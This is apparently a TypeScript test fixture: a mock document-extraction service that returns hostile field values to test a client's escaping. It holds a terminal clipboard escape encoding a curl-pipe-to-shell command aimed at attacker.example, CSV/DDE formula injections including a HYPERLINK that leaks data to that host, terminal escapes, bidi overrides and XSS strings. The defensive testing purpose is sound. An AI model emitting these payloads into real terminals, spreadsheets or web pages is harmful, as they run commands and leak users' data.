import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { PDFDocument } from 'pdf-lib';

/**
 * An independent stand-in for the service, written from the spec alone (it
 * shares no code with src/emulator), that answers as a hostile sender's
 * document would make any honest service answer: the extracted fields carry
 * formulas, terminal escapes, bidi overrides and a dotted key beside a
 * nested one, and the models list carries escapes in its names and texts.
 * It serves both paths of §1: an image or a PDF of at most 3 pages is
 * answered at once (200), a longer PDF is split into 3-page chunks (202),
 * each charged once when `process` persists it (§5), collected by `result`
 * and deleted by `finalize`. It counts what it charged so usage can be held
 * against it. It records the
 * file name of each upload it received, and can hold the answer to one
 * upload until the test releases it (a point to interrupt a run at).
 */

/** OSC 52 sets the clipboard to `curl -s http://attacker.example/x | sh`; OSC 0 retitles the window; CR + EL erases the line. */
export const HOSTILE_NAME_PART = 'invoice\u001b]52;c;Y3VybCAtcyBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94IHwgc2g=\u0007\u001b]0;Invoices OK\u0007\r\u001b[2K\u202e';
/** A name that, printed raw, writes a convincing fake line. */
export const NEWLINE_NAME_PART = 'a\n  complete fake.pdf (1 page)';

export const FORMULA_VALUES = {
  hyperlink: '=HYPERLINK("http://attacker.example/?"&A1,"click")',
  dde: "+cmd|' /C calc'!A0",
  at: '@SUM(1+1)',
  tab: '\t=1+1',
  cr: '\r=1+1',
  fullwidth: '\uff1d1+1',
};

export const HOSTILE_MODEL = 'invoice\u001b]0;pwned\u0007\u001b[2K';

/** The data every extraction answers. */
export function hostileData(): Record<string, unknown> {
  return {
    invoice_number: '00670494',
    ...FORMULA_VALUES,
    total: -12.5,
    bank: { iban: 'DE89370400440532013000' },
    'bank.iban': 'GB33BUKB20201555555555',
    ['note\u001b[31m\u202e']: 'line one\nline two \u001b]52;c;eA==\u0007',
    markup: '<img src=x onerror="window.__pwned=1">',
    ['<svg onload="window.__pwned=2">']: '<script>window.__pwned=3</script>',
  };
}

export interface HostileService {
  url: string;
  /** Credits charged so far (one per synchronous page, as the spec bills). */
  charged(): number;
  /** Requests by path. */
  requests: Map<string, number>;
  /** The file name of each upload received (its multipart part's), in order of arrival. */
  uploads: string[];
  /**
   * Hold the answers to the `nth` upload received (counted from the first
   * since the service started) and to every later one: each is charged and
   * answered only once `release` is called. `arrived` resolves once the
   * `nth` has arrived.
   */
  holdUpload(nth: number): { arrived: Promise<void>; release(): void };
  close(): Promise<void>;
}

export async function startHostileService(key: string): Promise<HostileService> {
  let charged = 0;
  const requests = new Map<string, number>();
  const uploads: string[] = [];
  let held: { nth: number; arrived: () => void; released: Promise<void> } | undefined;
  const jobs = new Map<string, SplitJob>();

  /** A SplitManifest (§2.3): chunks of 3 pages, in page order, alive 2 hours. */
  function split(pages: number): Record<string, unknown> {
    const id = `job_${(jobs.size + 1).toString().padStart(6, '0')}`;
    const chunks = Array.from({ length: Math.ceil(pages / 3) }, (_, index) => ({
      jobId: `${id}_c${index}`,
      pages: Array.from({ length: Math.min(3, pages - index * 3) }, (_, page) => index * 3 + page + 1),
      done: false,
    }));
    const job: SplitJob = { id, pages, chunks, expiresAt: new Date(Date.now() + 2 * 3_600_000).toISOString(), finalized: false };
    jobs.set(id, job);
    return {
      success: true,
      data: chunks.map((chunk) => ({ job_id: chunk.jobId, pages: rangeOf(chunk.pages) })),
      job_id: id,
      pages,
      result_url: `/v3.1/jobs/${id}`,
      expires_at: job.expiresAt,
      message: 'process each chunk, then collect',
    };
  }
  const server = createServer((request, response) => {
    const path = new URL(request.url ?? '/', 'http://x').pathname.replace(/\.php$/, '');
    requests.set(path, (requests.get(path) ?? 0) + 1);
    void answer(request, response, path).catch(() => response.destroy());
  });

  async function answer(request: IncomingMessage, response: ServerResponse, path: string): Promise<void> {
    const body = await readAll(request);
    const send = (status: number, value: unknown, headers: Record<string, string> = {}): void => {
      response.writeHead(status, { 'content-type': 'application/json', date: new Date().toUTCString(), ...headers });
      response.end(JSON.stringify(value));
    };
    if (path === '/v3.1/health')
      return send(200, { status: 'ok', timestamp: Math.floor(Date.now() / 1000), version: 'v3.1', environment: 'production', database: 'connected' });
    const auth = request.headers.authorization ?? '';
    const given = auth.startsWith('Bearer ') ? auth.slice(7) : request.headers['x-api-key'];
    if (given !== key) return send(401, { success: false, error: { code: 'invalid_api_key', message: 'bad key \u001b[2K' } });
    if (path === '/v3.1/authorised') return send(200, { success: true, data: { active: true, credits_remaining: 1000 - charged } });
    if (path === '/v3.1/models') {
      return send(200, {
        success: true,
        data: {
          models: [
            { name: 'invoice', document_type: 'invoice', description: 'Invoices \u001b]52;c;eA==\u0007\u202eevil' },
            { name: HOSTILE_MODEL, document_type: HOSTILE_MODEL, description: 'line\nfake line' },
          ],
        },
      });
    }
    if (path === '/v3.1/documents' && request.method === 'POST') {
      const model = /"(?:model|document_type)"\s*:\s*"((?:[^"\\]|\\.)*)"/.exec(body.toString('latin1'))?.[1];
      uploads.push(/filename="([^"]*)"/.exec(body.toString('utf8'))?.[1] ?? '');
      if (held !== undefined && uploads.length >= held.nth) {
        if (uploads.length === held.nth) held.arrived();
        await held.released;
      }
      const pages = await pagesOf(body, String(request.headers['content-type'] ?? ''));
      const reset = String(Math.floor(Date.now() / 1000) + 60);
      const limits = { 'x-ratelimit-limit': '1000', 'x-ratelimit-remaining': '999', 'x-ratelimit-reset': reset };
      if (pages > 3) return send(202, split(pages), limits);
      charged += pages;
      return send(
        200,
        {
          success: true,
          data: hostileData(),
          model_used: model === undefined ? 'invoice' : (JSON.parse(`"${model}"`) as string),
          pages,
          processing_time_ms: 5,
        },
        limits,
      );
    }
    const url = new URL(request.url ?? '/', 'http://x');
    if (path === '/v3.1/process' && request.method === 'POST') {
      const chunkId = url.searchParams.get('job_id') ?? /name="job_id"\r\n\r\n([^\r]+)/.exec(body.toString('latin1'))?.[1];
      const job = chunkId === undefined ? undefined : jobs.get(chunkId.replace(/_c\d+$/, ''));
      const chunk = job?.chunks.find((candidate) => candidate.jobId === chunkId);
      if (!job || !chunk) return send(404, { success: false, error: { code: 'job_not_found', message: 'no such chunk' } });
      if (job.finalized) return send(410, { success: false, error: { code: 'job_expired', message: 'finalized' } });
      const replay = chunk.done;
      if (!replay) {
        chunk.done = true;
        charged += chunk.pages.length;
      }
      const done = job.chunks.filter((candidate) => candidate.done).length;
      return send(200, {
        success: true,
        data: null,
        job_id: chunk.jobId,
        status: 'done',
        code: replay ? 'chunk_already_processed' : 'chunk_processed',
        pages: rangeOf(chunk.pages),
        chunks_done: done,
        chunks_total: job.chunks.length,
        ...(replay ? {} : { processing_time_ms: 5 }),
      });
    }
    if (path === '/v3.1/result' && request.method === 'GET') {
      const job = jobs.get(url.searchParams.get('job_id') ?? '');
      if (!job) return send(404, { success: false, error: { code: 'job_not_found', message: 'no such job' } });
      if (job.finalized) return send(410, { success: false, error: { code: 'job_expired', message: 'finalized' } });
      const done = job.chunks.filter((chunk) => chunk.done);
      const pending = job.chunks.filter((chunk) => !chunk.done).flatMap((chunk) => chunk.pages);
      const finalize = url.searchParams.get('finalize') === 'true';
      if (finalize) job.finalized = true;
      return send(200, {
        success: true,
        data: hostileData(),
        job_id: job.id,
        status: pending.length === 0 ? 'complete' : 'partial',
        pages_total: job.pages,
        pages_processed: done.reduce((sum, chunk) => sum + chunk.pages.length, 0),
        chunks_done: done.length,
        chunks_total: job.chunks.length,
        credits_used: done.reduce((sum, chunk) => sum + chunk.pages.length, 0),
        expires_at: job.expiresAt,
        ...(pending.length > 0 ? { pending_pages: pending } : {}),
        ...(finalize ? { finalized: true } : {}),
      });
    }
    return send(404, { success: false, error: { code: 'job_not_found', message: 'not here' } });
  }

  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    charged: () => charged,
    requests,
    uploads,
    holdUpload: (nth) => {
      let arrived: () => void = () => undefined;
      let release: () => void = () => undefined;
      const hold = { nth, arrived: () => arrived(), released: new Promise<void>((resolve) => (release = resolve)) };
      held = hold;
      return { arrived: new Promise<void>((resolve) => (arrived = resolve)), release: () => release() };
    },
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

async function readAll(request: IncomingMessage): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of request) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

interface SplitJob {
  id: string;
  pages: number;
  chunks: { jobId: string; pages: number[]; done: boolean }[];
  expiresAt: string;
  finalized: boolean;
}

function rangeOf(pages: readonly number[]): string {
  return `${pages[0]}-${pages[pages.length - 1]}`;
}

/** The uploaded file's pages: an image is one; a PDF's are counted by pdf-lib (this stand-in shares no counter with docextract). */
async function pagesOf(body: Buffer, contentType: string): Promise<number> {
  const form = await new Response(body, { headers: { 'content-type': contentType } }).formData();
  const file = form.get('file');
  if (!(file instanceof Blob)) return 1;
  const bytes = new Uint8Array(await file.arrayBuffer());
  if (Buffer.from(bytes.subarray(0, 5)).toString('latin1') !== '%PDF-') return 1;
  return (await PDFDocument.load(bytes, { ignoreEncryption: true })).getPageCount();
}
